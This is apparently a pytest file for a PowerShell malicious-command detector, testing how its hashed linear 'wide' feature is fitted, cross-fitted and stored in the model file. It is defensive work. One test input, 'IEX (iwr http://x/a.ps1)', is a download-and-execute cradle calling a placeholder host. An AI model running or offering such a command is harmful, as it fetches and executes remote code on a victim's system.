"""Fitting the wide part: train/serve parity, cross-fitting, and the state in the model file."""

from __future__ import annotations

import json
import math
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest

from vigil.datasets.powershell import generate_commands
from vigil.errors import DataError
from vigil.features.base import FEATURE_STATE_KEY
from vigil.features.powershell import WIDE_COLUMN, PowerShellExtractor
from vigil.runtime.detection import BUILTIN_DETECTIONS
from vigil.store import Store
from vigil.testing.references import wide_buckets
from vigil.train.data import labelled
from vigil.train.pipeline import augment
from vigil.train.wide import WideConfig, WideFit, fit_wide, wide_matrix

pytest.importorskip("sklearn")

BASE = PowerShellExtractor()
CONFIG = WideConfig(bits=12, max_bytes=2_048)


def commands(n: int, seed: int) -> tuple[list[str], np.ndarray]:
    table = generate_commands(n, malicious_share=0.3, seed=seed)
    return table.column("command_line").to_pylist(), np.asarray(table.column("label"))


@pytest.fixture(scope="module")
def fitted() -> tuple[list[str], np.ndarray, WideFit]:
    text, label = commands(1_500, seed=3)
    text, label = augment(text, label, seed=0)  # encoded re-launches, obfuscated copies
    return text, label, fit_wide(BASE, text, label, CONFIG)


def test_the_served_log_odds_are_the_trained_linear_model(
    fitted: tuple[list[str], np.ndarray, WideFit],
) -> None:
    text, _, fit = fitted
    state = fit.extractor.state
    assert state is not None
    assert state.bits == 12
    assert state.max_bytes == 2_048
    sample = text[:300] + text[-300:]
    content = BASE.content(sample)
    x = wide_matrix(content.data, content.offsets, bits=12, max_bytes=2_048)
    expected = x @ state.weights.astype(np.float64) + state.bias
    served = fit.extractor.transform(sample).column(WIDE_COLUMN)
    np.testing.assert_allclose(served, expected, rtol=1e-5, atol=1e-5)


def test_training_rows_hash_like_the_reference_and_have_unit_norm() -> None:
    values = ["IEX (iwr http://x/a.ps1)", "Get-Service | Sort-Object Status", "aaaaaa", "ab", ""]
    content = BASE.content(values)
    x = wide_matrix(content.data, content.offsets, bits=16).tocsr()
    raw = content.data.tobytes()
    for row, (a, b) in enumerate(zip(content.offsets[:-1], content.offsets[1:], strict=True)):
        columns = set(x.indices[x.indptr[row] : x.indptr[row + 1]].tolist())
        assert columns == wide_buckets(raw[a:b], 16)
        values_in_row = x.data[x.indptr[row] : x.indptr[row + 1]]
        if columns:
            assert np.allclose(values_in_row, 1 / math.sqrt(len(columns)))
            assert float(np.sum(values_in_row.astype(np.float64) ** 2)) == pytest.approx(1.0)


def test_out_of_fold_log_odds_agree_across_copies_of_one_content(
    fitted: tuple[list[str], np.ndarray, WideFit],
) -> None:
    text, label, fit = fitted
    content = BASE.content(text)
    raw = content.data.tobytes()
    by_content: dict[tuple[bytes, int], set[float]] = {}
    for i, (a, b) in enumerate(zip(content.offsets[:-1], content.offsets[1:], strict=True)):
        by_content.setdefault((raw[a:b], int(label[i])), set()).add(float(fit.out_of_fold[i]))
    assert all(len(v) == 1 for v in by_content.values())
    assert len(by_content) < len(text)  # the augmented rows did share their original's


def test_out_of_fold_log_odds_come_from_models_that_did_not_see_the_row(
    fitted: tuple[list[str], np.ndarray, WideFit],
) -> None:
    from sklearn.metrics import roc_auc_score

    text, label, fit = fitted
    full = fit.extractor.transform(text).column(WIDE_COLUMN)
    assert fit.summary["folds"] == 5
    assert not np.allclose(fit.out_of_fold, full)
    assert np.corrcoef(fit.out_of_fold, full)[0, 1] > 0.9
    # On rows it was fitted on, the full model separates more confidently.
    margin_full = np.abs(full - np.median(full)).mean()
    margin_oof = np.abs(fit.out_of_fold - np.median(fit.out_of_fold)).mean()
    assert margin_full > margin_oof
    assert roc_auc_score(label, fit.out_of_fold) > 0.95
    assert fit.summary["out_of_fold_roc_auc"] > 0.95


def test_fit_wide_returns_a_fitted_copy() -> None:
    text, label = commands(400, seed=9)
    extractor = fit_wide(BASE, text, label, CONFIG).extractor
    assert extractor.state is not None
    assert BASE.state is None
    assert extractor.spec.id == BASE.spec.id
    assert np.any(extractor.transform(text[:20]).column(WIDE_COLUMN) != 0.0)


def test_the_same_seed_gives_the_same_fit(
    fitted: tuple[list[str], np.ndarray, WideFit],
) -> None:
    # liblinear's dual solver shuffles with a random state; unseeded, it took numpy's
    # global one and two trainings on the same data and seed disagreed
    text, label, fit = fitted
    again = fit_wide(BASE, text, label, CONFIG)
    np.testing.assert_array_equal(again.out_of_fold, fit.out_of_fold)
    assert again.extractor.state is not None
    assert fit.extractor.state is not None
    np.testing.assert_array_equal(again.extractor.state.weights, fit.extractor.state.weights)


def test_null_rows_get_zero_and_one_class_is_refused() -> None:
    text, label = commands(300, seed=4)
    values: list[str | None] = [*text, None]
    fit = fit_wide(BASE, values, np.append(label, 1), CONFIG)
    assert fit.out_of_fold[-1] == 0.0
    with pytest.raises(DataError, match="both"):
        fit_wide(BASE, text, np.zeros(len(text), dtype=np.int64), CONFIG)
    with pytest.raises(DataError, match="labels"):
        fit_wide(BASE, text, label[:-1], CONFIG)


@dataclass(frozen=True)
class Trained:
    store: Path
    text: list[str]


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Trained:
    from vigil.train.mlp import MLPConfig
    from vigil.train.pipeline import train_detection

    table = generate_commands(2_000, malicious_share=0.3, seed=12)
    store = tmp_path_factory.mktemp("wide") / "models"
    train_detection(
        "powershell",
        labelled(table, text_col="command_line", label_col="label"),
        Store(store),
        config=MLPConfig(max_epochs=2),
    )
    return Trained(store, table.column("command_line").to_pylist()[:200])


def test_the_model_file_carries_the_wide_state_and_the_runtime_uses_it(trained: Trained) -> None:
    store = Store(trained.store)
    loaded = store.load("powershell")
    assert FEATURE_STATE_KEY.encode() in loaded.model_bytes
    manifest = store.manifest("powershell", loaded.manifest.version)
    assert manifest.params["wide"]["folds"] == 5
    assert manifest.params["wide"]["bits"] == 16

    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    model = bound.scorers[0].current()
    assert model.feature_state is not None
    extractor = bound.extractor_for(model)
    assert isinstance(extractor, PowerShellExtractor)
    assert extractor.state is not None
    assert len(json.dumps(model.feature_state)) < 2_000_000

    features = extractor.transform(trained.text)
    assert np.any(features.column(WIDE_COLUMN) != 0.0)
    expected = bound.scorers[0].score(features.values, model=model)
    np.testing.assert_allclose(bound.score(pa.array(trained.text)), expected, atol=1e-12)
    unfitted = bound.scorers[0].score(BASE.transform(trained.text).values, model=model)
    assert not np.allclose(unfitted, expected)
